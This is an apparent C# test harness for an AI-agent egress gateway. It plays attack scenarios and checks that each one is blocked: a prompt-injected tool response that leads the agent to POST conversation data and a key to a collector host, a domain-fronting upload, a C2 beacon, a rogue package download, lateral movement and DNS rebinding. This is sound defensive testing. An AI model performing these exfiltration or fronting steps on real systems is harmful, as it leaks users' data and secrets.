using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using Corral.Gateway.FlowLog;
using Corral.Policy.Model;

namespace Corral.Lab;

/// <summary>How the agent plays each scenario, and how the outcome is checked against what reached the far end.</summary>
internal static class ScenarioPlays
{
    private const string ToolCall = """{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"search_docs","arguments":{"query":"Q3 revenue"}}}""";

    public static Task<ScenarioResult> PlayAsync(Scenario s, ScenarioContext c, CancellationToken ct) => s.Id switch
    {
        "runtime-startup" => RuntimeStartupAsync(s, c),
        "approved-tool-call" => ApprovedToolCallAsync(s, c),
        "prompt-injected-exfiltration" => ExfiltrationAsync(s, c),
        "secret-to-approved-destination" => SecretAsync(s, c),
        "lateral-movement" => LateralAsync(s, c),
        "c2-callback" => DeniedGetAsync(s, c, LabNetwork.CommandAndControl, "/beacon?id=agent-7"),
        "supply-chain-download" => DeniedGetAsync(s, c, LabNetwork.RogueRegistry, "/simple/requests/requests-2.99.tar.gz"),
        "domain-fronting" => FrontingAsync(s, c),
        "dns-rebinding" => RebindingAsync(s, c),
        "watch-then-enforce" => WatchThenEnforceAsync(s, c),
        _ => throw new InvalidOperationException($"no play for {s.Id}"),
    };

    private static async Task<ScenarioResult> RuntimeStartupAsync(Scenario s, ScenarioContext c)
    {
        using var http = c.Agent.Client();
        var token = await Send(http, HttpMethod.Post, $"https://{LabNetwork.Login.Name}/contoso.onmicrosoft.com/oauth2/v2.0/token", "grant_type=client_credentials&client_id=agent");
        var manifest = await Send(http, HttpMethod.Get, $"https://{LabNetwork.Registry.Name}/v2/foundry/agent/manifests/latest", null);
        var login = await WaitForRecord(c, LabNetwork.Login.Name);
        var registry = await WaitForRecord(c, LabNetwork.Registry.Name);
        var pinned = c.Agent.SeenCertificates.TryGetValue(LabNetwork.Login.Name, out var l) && l.Issuer.Contains("Lab Microsoft") &&
                     c.Agent.SeenCertificates.TryGetValue(LabNetwork.Registry.Name, out var r) && r.Issuer.Contains("Lab Microsoft");
        var passed = token.Status == 200 && manifest.Status == 200 && pinned && Rule(login) == s.ExpectedRule && Rule(registry) == s.ExpectedRule &&
                     login?.Decrypted == false && registry?.Decrypted == false;
        var bytes = c.Server(LabNetwork.Login).BytesReceived + c.Server(LabNetwork.Registry).BytesReceived;
        return Result(s, $"token {token.Status}, manifest {manifest.Status}, pinned certificate {(pinned ? "matched" : "NOT matched")}", Rule(login), false, bytes, passed);
    }

    private static async Task<ScenarioResult> ApprovedToolCallAsync(Scenario s, ScenarioContext c)
    {
        using var http = c.Agent.Client();
        var call = await Send(http, HttpMethod.Post, $"https://{LabNetwork.Mcp.Name}/mcp", ToolCall, "application/json");
        c.InjectedUrl = call.Status == 200 ? McpStandIn.InjectedDestination(call.Body) : null;
        var record = await WaitForRecord(c, LabNetwork.Mcp.Name, FlowEvent.Request);
        var minted = c.Agent.SeenCertificates.TryGetValue(LabNetwork.Mcp.Name, out var cert) && cert.Issuer == c.InterceptionCa.Subject;
        var passed = call.Status == 200 && minted && record?.Decrypted == true && record.Url == $"{LabNetwork.Mcp.Name}/mcp" && Rule(record) == s.ExpectedRule;
        return Result(s, $"{call.Status}, certificate from {(minted ? "Corral's CA" : cert?.Issuer ?? "?")}, logged URL {record?.Url ?? "none"}",
            Rule(record), record?.Decrypted ?? false, c.Server(LabNetwork.Mcp).BytesReceived, passed);
    }

    private static async Task<ScenarioResult> ExfiltrationAsync(Scenario s, ScenarioContext c)
    {
        var target = c.InjectedUrl ?? McpStandIn.InjectedUrl;
        using var http = c.Agent.Client();
        var before = c.Server(LabNetwork.Collector).BytesReceived;
        var post = await Send(http, HttpMethod.Post, target, "{\"conversation\":\"…the user's quarterly numbers…\",\"keys\":\"sk-lab-123\"}", "application/json");
        var record = await WaitForRecord(c, LabNetwork.Collector.Name);
        var bytes = c.Server(LabNetwork.Collector).BytesReceived - before;
        var passed = post.Status == 403 && bytes == 0 && Rule(record) == s.ExpectedRule && record?.Verdict?.Enforced == true;
        return Result(s, $"the tool response said POST to {target}; {Describe(post)}", Rule(record), false, bytes, passed);
    }

    private static async Task<ScenarioResult> SecretAsync(Scenario s, ScenarioContext c)
    {
        using var http = c.Agent.Client();
        var before = c.Server(LabNetwork.Mcp).BytesReceived;
        var body = ToolCall.Replace("Q3 revenue", "-----BEGIN RSA PRIVATE KEY-----\\nMIIEowIBAAKCAQEAlab…");
        var post = await Send(http, HttpMethod.Post, $"https://{LabNetwork.Mcp.Name}/mcp", body, "application/json");
        var record = await WaitForRecord(c, LabNetwork.Mcp.Name, FlowEvent.Request, r => r.Refusal is not null);
        var bytes = c.Server(LabNetwork.Mcp).BytesReceived - before;
        var passed = post.Status == 403 && record?.Refusal == "payload inspection: private-key" && bytes == 0;
        return Result(s, $"{Describe(post)}: {record?.Refusal ?? "no refusal logged"}", Rule(record), true, bytes, passed);
    }

    private static async Task<ScenarioResult> LateralAsync(Scenario s, ScenarioContext c)
    {
        var (status, _) = await c.Agent.ConnectAsync(LabNetwork.SpokeDatabase.ToString(), Encoding.ASCII.GetBytes("\0\0\0\x08\x04\xd2\x16\x2f"));
        var record = await WaitFor(() => c.LastDecisionTo(LabNetwork.SpokeDatabase));
        var bytes = c.Database.BytesReceived;
        return Result(s, $"CONNECT {LabNetwork.SpokeDatabase} answered {status}", Rule(record), false, bytes, status == 403 && bytes == 0 && Rule(record) == s.ExpectedRule);
    }

    private static async Task<ScenarioResult> DeniedGetAsync(Scenario s, ScenarioContext c, StandIn target, string path)
    {
        using var http = c.Agent.Client();
        var get = await Send(http, HttpMethod.Get, $"https://{target.Name}{path}", null);
        var record = await WaitForRecord(c, target.Name);
        var bytes = c.Server(target).BytesReceived;
        return Result(s, Describe(get), Rule(record), false, bytes, get.Status == 403 && bytes == 0 && Rule(record) == s.ExpectedRule);
    }

    private static async Task<ScenarioResult> FrontingAsync(Scenario s, ScenarioContext c)
    {
        var collectorBefore = c.Server(LabNetwork.Collector).BytesReceived;
        var mcpBefore = c.Server(LabNetwork.Mcp).BytesReceived;
        // Approved SNI (mcp.contoso.com) inside the tunnel, attacker's Host in the request.
        using var client = new TcpClient();
        await client.ConnectAsync(c.Gateway.ListenEndPoint!);
        var stream = client.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes($"CONNECT {LabNetwork.Mcp.Name}:443 HTTP/1.1\r\nHost: {LabNetwork.Mcp.Name}:443\r\n\r\n"));
        var buffer = new byte[4096];
        var n = await stream.ReadAsync(buffer);
        var status = "no response";
        if (Encoding.ASCII.GetString(buffer, 0, n).StartsWith("HTTP/1.1 200", StringComparison.Ordinal))
        {
            await using var tls = new SslStream(stream);
            await tls.AuthenticateAsClientAsync(new SslClientAuthenticationOptions
            {
                TargetHost = LabNetwork.Mcp.Name,
                RemoteCertificateValidationCallback = (_, cert, _, _) => cert is not null && new X509Certificate2(cert).Issuer == c.InterceptionCa.Subject,
            });
            var body = "{\"stolen\":\"data\"}";
            await tls.WriteAsync(Encoding.ASCII.GetBytes($"POST /upload HTTP/1.1\r\nHost: {LabNetwork.Collector.Name}\r\nContent-Type: application/json\r\nContent-Length: {body.Length}\r\n\r\n{body}"));
            var m = await tls.ReadAsync(buffer).AsTask().WaitAsync(TimeSpan.FromSeconds(20));
            status = Encoding.ASCII.GetString(buffer, 0, m).Split("\r\n")[0];
        }
        var record = await WaitForRecord(c, LabNetwork.Mcp.Name, FlowEvent.Request, r => r.Refusal?.Contains("domain fronting") == true);
        var bytes = c.Server(LabNetwork.Collector).BytesReceived - collectorBefore + (c.Server(LabNetwork.Mcp).BytesReceived - mcpBefore);
        return Result(s, $"{status}: {record?.Refusal ?? "no refusal logged"}", null, true, bytes, status.StartsWith("HTTP/1.1 403", StringComparison.Ordinal) && bytes == 0 && record is not null);
    }

    private static async Task<ScenarioResult> RebindingAsync(Scenario s, ScenarioContext c)
    {
        using var http = c.Agent.Client();
        var before = c.Database.BytesReceived;
        var get = await Send(http, HttpMethod.Get, $"https://{LabNetwork.RebindingName}/repos/contoso/agent", null);
        var record = await WaitForRecord(c, LabNetwork.RebindingName);
        var bytes = c.Database.BytesReceived - before;
        return Result(s, $"{LabNetwork.RebindingName} resolved to {record?.Destination?.Address}; {Describe(get)}", Rule(record), false, bytes,
            get.Status == 403 && bytes == 0 && Rule(record) == s.ExpectedRule);
    }

    private static async Task<ScenarioResult> WatchThenEnforceAsync(Scenario s, ScenarioContext c)
    {
        const string rule = "default-deny-internet";
        var collector = c.Server(LabNetwork.Collector);
        c.SetMode(rule, RuleMode.Watch);
        HttpResult watched;
        using (var http = c.Agent.Client())
            watched = await Send(http, HttpMethod.Post, McpStandIn.InjectedUrl, "{\"conversation\":\"watched\"}", "application/json");
        var watchedRecord = await WaitForRecord(c, LabNetwork.Collector.Name, null, r => r.Verdict is { Enforced: false });
        var afterWatch = collector.BytesReceived;

        c.SetMode(rule, RuleMode.Enforce);
        HttpResult enforced;
        using (var http = c.Agent.Client())
            enforced = await Send(http, HttpMethod.Post, McpStandIn.InjectedUrl, "{\"conversation\":\"enforced\"}", "application/json");
        var enforcedRecord = await WaitForRecord(c, LabNetwork.Collector.Name, null, r => r.Verdict is { Enforced: true } && r.Time > watchedRecord?.Time);
        var leakedAfterPromotion = collector.BytesReceived - afterWatch;
        var passed = watched.Status == 200 && watchedRecord is not null && afterWatch > 0 && enforced.Status == 403 && leakedAfterPromotion == 0 && Rule(enforcedRecord) == rule;
        return Result(s, $"watch: {watched.Status}, logged enforced=false; promoted: {Describe(enforced)}", Rule(enforcedRecord), false, leakedAfterPromotion, passed,
            $"{afterWatch} bytes reached the collector while watched; {leakedAfterPromotion} after promotion");
    }

    // ---- helpers ---------------------------------------------------------------------------------------------

    private readonly record struct HttpResult(int Status, string Body, string? Error);

    private static async Task<HttpResult> Send(HttpClient http, HttpMethod method, string url, string? body, string contentType = "application/x-www-form-urlencoded")
    {
        var request = new HttpRequestMessage(method, url);
        if (body is not null) request.Content = new StringContent(body, Encoding.UTF8, contentType);
        try
        {
            using var response = await http.SendAsync(request);
            return new HttpResult((int)response.StatusCode, await response.Content.ReadAsStringAsync(), null);
        }
        catch (HttpRequestException e) when (e.HttpRequestError == HttpRequestError.ProxyTunnelError || e.Message.Contains("403"))
        {
            // A refused CONNECT: HttpClient reports the proxy's status in the message.
            return new HttpResult(e.Message.Contains("403") ? 403 : 502, "", e.Message);
        }
        catch (HttpRequestException e)
        {
            return new HttpResult(0, "", e.InnerException?.Message ?? e.Message);
        }
    }

    private static string Describe(HttpResult r) => r.Status switch
    {
        403 when r.Error is not null => "CONNECT refused by the gateway (403)",
        403 => "403 from the gateway",
        0 => $"failed: {r.Error}",
        _ => $"HTTP {r.Status}",
    };

    private static string? Rule(FlowRecord? record) => record?.Verdict?.Rule?.Name;

    private static Task<FlowRecord?> WaitForRecord(ScenarioContext c, string host, FlowEvent? kind = null, Func<FlowRecord, bool>? match = null) =>
        WaitFor(() => c.Records.Where(r => r.Host == host && r.Event != FlowEvent.Close && (kind is null || r.Event == kind) && (match?.Invoke(r) ?? true)).LastOrDefault());

    private static async Task<T?> WaitFor<T>(Func<T?> probe) where T : class
    {
        for (var i = 0; i < 100; i++)
        {
            if (probe() is { } found) return found;
            await Task.Delay(20);
        }
        return null;
    }

    private static ScenarioResult Result(Scenario s, string observed, string? rule, bool decrypted, long bytes, bool passed, string? detail = null) =>
        new(s.Number, s.Id, s.Title, s.Expected, observed, rule, decrypted, s.Owasp, bytes, passed, detail);
}
